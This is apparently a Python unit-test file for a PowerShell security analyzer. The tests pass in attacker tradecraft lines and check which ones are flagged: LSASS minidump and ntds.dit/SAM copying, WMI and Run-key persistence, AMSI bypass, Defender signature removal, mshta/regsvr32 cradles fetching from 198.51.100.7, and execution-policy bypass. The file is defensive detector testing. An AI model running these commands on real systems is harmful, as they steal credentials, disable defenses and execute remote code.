"""Focused cases for what the independent tradecraft corpus (independent_corpora/tradecraft) found: one test
per fixed miss or false finding, each with a near miss that must stay quiet."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_minidump_pinvoke_is_reported_at_the_call_not_also_at_its_declaration() -> None:
    result = analyze("""
        $sig = '[DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr h, uint id, IntPtr f, uint t, IntPtr e, IntPtr u, IntPtr c);'
        $dbg = Add-Type -MemberDefinition $sig -Name 'Dbg' -Namespace 'Win32' -PassThru
        $dbg::MiniDumpWriteDump($p.Handle, [uint32]$p.Id, $h, 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
    """)
    assert lines_of(result, "PSCredentialDumping") == [3]


def test_minidump_declaration_alone_is_still_reported() -> None:
    result = analyze("""
        $sig = '[DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr h, uint id);'
        Add-Type -MemberDefinition $sig -Name 'Dbg' -Namespace 'Win32'
    """)
    assert lines_of(result, "PSCredentialDumping") == [1]


def test_ntds_and_hive_files_copied_are_credential_dumping_but_reading_them_is_not() -> None:
    result = analyze("""
        cmd.exe /c copy "$shadow\\Windows\\NTDS\\ntds.dit" "$loot\\ntds.dit"
        Copy-Item -Path "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM" -Destination C:\\t\\s
        esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\t\\n.dit
        (Get-Item -Path C:\\Windows\\NTDS\\ntds.dit).Length
        Copy-Item -Path C:\\Windows\\System32\\config\\systemprofile\\a.txt -Destination C:\\t
        Write-Output 'Back up ntds.dit with Windows Server Backup only'
    """)
    assert lines_of(result, "PSCredentialDumping") == [1, 2, 3]


def test_wmi_subscription_is_reported_where_created_not_where_listed_or_removed() -> None:
    result = analyze("""
        Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments $filterArgs
        New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property $props
        $class = [wmiclass]'\\\\.\\root\\subscription:__FilterToConsumerBinding'
        Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -ErrorAction SilentlyContinue
        Get-WmiObject -Namespace root\\subscription -Class __EventFilter | Remove-WmiObject
        $found = ([wmisearcher]'SELECT * FROM __FilterToConsumerBinding').Get()
    """)
    assert lines_of(result, "PSPersistenceWmiSubscription") == [1, 2, 3]


def test_amsi_utils_found_by_a_name_pattern_over_the_assembly_types() -> None:
    result = analyze("""
        $utils = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*iUtils' }
        $u2 = [Ref].Assembly.GetTypes() | ? { $_.Name -match 'siUt' }
        $any = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*Utils' }
        $cmds = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*Command' }
        $files = Get-ChildItem | Where-Object { $_.Name -like '*iUtils' }
    """)
    assert lines_of(result, "PSAmsiBypass") == [1, 2]


def test_defender_signatures_removed_with_mpcmdrun_but_not_the_dynamic_signature_reset() -> None:
    result = analyze("""
        & "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All
        MpCmdRun.exe /RemoveDefinitions /All
        & "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -DynamicSignatures
        & "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate
    """)
    assert lines_of(result, "PSDefenderTampering") == [1, 2]


def test_run_key_written_through_the_dotnet_registry_api() -> None:
    result = analyze("""
        $key = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true)
        $key.SetValue('Updater', $cmdLine)
        $path = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce'
        $lm = [Microsoft.Win32.Registry]::LocalMachine.CreateSubKey($path)
        $lm.SetValue('Cleanup', 'cmd /c del x')
        [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true).SetValue('a', 'b')
        $other = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Contoso\\Settings', $true)
        $other.SetValue('Theme', 'dark')
        $read = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run')
        $read.GetValueNames()
    """)
    assert lines_of(result, "PSPersistenceRunKey") == [2, 5, 6]


def test_signed_proxy_running_remote_content_in_a_command_line_string() -> None:
    result = analyze("""
        schtasks /create /sc minute /mo 30 /tn "GoogleUpdateTaskMachine" /tr "mshta.exe http://198.51.100.7/t.hta" /f
        Set-ItemProperty -Path $run -Name u -Value 'regsvr32 /s /i:https://198.51.100.7/x.sct scrobj.dll'
        mshta.exe http://198.51.100.7/direct.hta
        Write-Host "Install it with: msiexec /i https://contoso.example/agent.msi"
        schtasks /create /tn Backup /tr "msiexec /i C:\\pkg\\agent.msi /qn" /sc daily
    """)
    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]


def test_hidden_internet_explorer_page_text_executed_is_a_cradle() -> None:
    result = analyze("""
        $ie = New-Object -ComObject InternetExplorer.Application
        $ie.Visible = $false
        $ie.Navigate($Url)
        while ($ie.Busy) { Start-Sleep -Milliseconds 200 }
        $text = $ie.Document.body.innerText
        $ie.Quit()
        iex $text
        $title = $ie.Document.body.innerText
        Write-Output $title
    """)
    assert lines_of(result, "PSDownloadCradle") == [5]


def test_execution_policy_bypass_given_as_separate_argument_list_items() -> None:
    result = analyze("""
        Start-Process -FilePath powershell.exe -ArgumentList '-ExecutionPolicy', 'Bypass', '-File', "$PSScriptRoot\\s.ps1"
        Start-Process pwsh -ArgumentList @("-ep", "unrestricted", "-File", 'x.ps1')
        Start-Process -FilePath powershell.exe -ArgumentList '-ExecutionPolicy', 'RemoteSigned', '-File', 'x.ps1'
        $modes = '-ExecutionPolicy', 'AllSigned'
    """)
    assert lines_of(result, "PSExecutionPolicyBypass") == [1, 2]


def test_aws_secret_access_key_recognised_by_its_name_and_shape() -> None:
    result = analyze("""
        $awsSecret = 'q8Vd2mN7xL0pR4tY6uI9oP1aS3dF5gH7jK9lZ2xC'
        Set-AWSCredential -AccessKey $id -SecretKey 'Zq8Vd2mN7xL0pR4tY6uI9oP1aS3dF5gH7jK9l/2x'
        $awsSecretPlaceholder = 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
        $buildHash = 'q8Vd2mN7xL0pR4tY6uI9oP1aS3dF5gH7jK9lZ2xC'
        $awsSecret2 = Get-Secret -Name aws
    """)
    assert lines_of(result, "PSHardcodedSecretKey") == [1, 2]
    assert lines_of(result, "PSAvoidHardcodedCredential") == []
